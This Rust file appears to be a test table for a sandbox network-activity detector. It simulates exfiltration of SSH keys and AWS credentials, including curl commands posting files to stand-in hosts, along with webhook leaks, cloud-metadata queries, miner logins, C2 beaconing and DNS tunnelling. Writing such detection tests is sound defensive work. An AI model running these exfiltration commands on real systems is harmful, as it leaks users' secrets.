//! What is said to others.

use types::Kind;

use super::Expect::{Malicious, Suspicious, Weak};
use super::Row;
use crate::trace::{ROOT, Trace, http, inet, read, request};

fn carrying(kind: Kind) -> Kind {
    match kind {
        Kind::Request {
            protocol,
            peer,
            host,
            line,
            sent_bytes,
            received_bytes,
            head,
            answer,
            ..
        } => Kind::Request {
            protocol,
            peer,
            host,
            line,
            sent_bytes,
            received_bytes,
            head,
            answer,
            carries: vec!["/home/sandbox/.ssh/id_rsa".into()],
        },
        other => other,
    }
}

fn says(trace: &mut Trace, port: u16, line: &str) {
    let kind = request("tcp", inet("203.0.113.9", port), "", line, line.as_bytes());
    trace.event(ROOT, kind);
}

pub(super) const REQUESTS: &[Row] = &[
    ("decoy-sent", Malicious, |t| {
        t.event(ROOT, carrying(http("drop.example", "POST /in HTTP/1.1", b"x")));
    }),
    ("machine-facts-sent", Suspicious, |t| {
        t.event(ROOT, http("a.example", "POST / HTTP/1.1", b"uid=1000(u) gid=1000(u)"));
    }),
    ("machine-facts-sent", Suspicious, |t| {
        let line = "GET /?e=UEFUSD0vYmluCkhPTUU9L3Jvb3QK HTTP/1.1";
        t.event(ROOT, http("a.example", line, b""));
    }),
    ("machine-facts-sent", Suspicious, |t| {
        let curl = t.command(ROOT, "curl --data-binary @/tmp/x https://a.example/");
        t.event(curl, http("a.example", "POST / HTTP/1.1", b"root:x:0:0:root:/root:/bin/sh"));
    }),
    ("webhook-post", Suspicious, |t| {
        let line = "POST /api/webhooks/112233445566/a1B2c3D4e5F6g7H8i9J0k1L2m3N4 HTTP/1.1";
        t.event(ROOT, http("chat.example", line, b"{}"));
    }),
    ("bare-address", Weak, |t| {
        let peer = inet("203.0.113.9", 4321);
        t.event(ROOT, request("http", peer, "203.0.113.9", "GET /bins.sh HTTP/1.1", b""));
    }),
    ("unencrypted-login", Weak, |t| says(t, 21, "USER bob; PASS hunter2; STOR loot.tgz")),
    ("unlisted-host", Weak, |t| {
        let event = t.event(ROOT, http("other.example", "GET / HTTP/1.1", b""));
        if let Kind::Request { answer, .. } = &mut event.kind {
            *answer = "refused".to_owned();
        }
        (event.ret, event.blocked) = (None, true);
    }),
    ("read-and-send", Suspicious, |t| {
        t.event(ROOT, read("/home/sandbox/.aws/credentials"));
        let curl = t.command(ROOT, "curl -T - https://up.example/");
        t.event(curl, http("up.example", "PUT /f HTTP/1.1", b"[default]"));
    }),
    ("cloud-metadata", Suspicious, |t| {
        let peer = inet("198.18.4.9", 80);
        let line = "GET /computeMetadata/v1/ HTTP/1.1";
        t.event(ROOT, request("http", peer, "metadata.google.internal", line, b""));
    }),
    ("crypto-miner", Suspicious, |t| {
        says(t, 443, r#"{"id":1,"method":"mining.subscribe","params":["m/1"]}"#);
    }),
    ("crypto-miner", Suspicious, |t| {
        says(t, 80, r#"{"method":"login","params":{"login":"4A","pass":"x","agent":"m"},"id":1}"#);
    }),
    ("beacon", Suspicious, |t| {
        for n in 0..6 {
            t.wait(5000 + n * 300);
            t.event(ROOT, http("c2.example", "GET /task HTTP/1.1", b""));
        }
    }),
    ("dns-tunnel", Suspicious, |t| {
        for n in 0..12_u32 {
            let data: String =
                crate::trace::random(n).iter().take(24).map(|b| format!("{b:02x}")).collect();
            let name = format!("{data}.t.example.com");
            t.event(ROOT, request("dns", inet("10.0.2.3", 53), &name, "TXT", b""));
        }
    }),
];
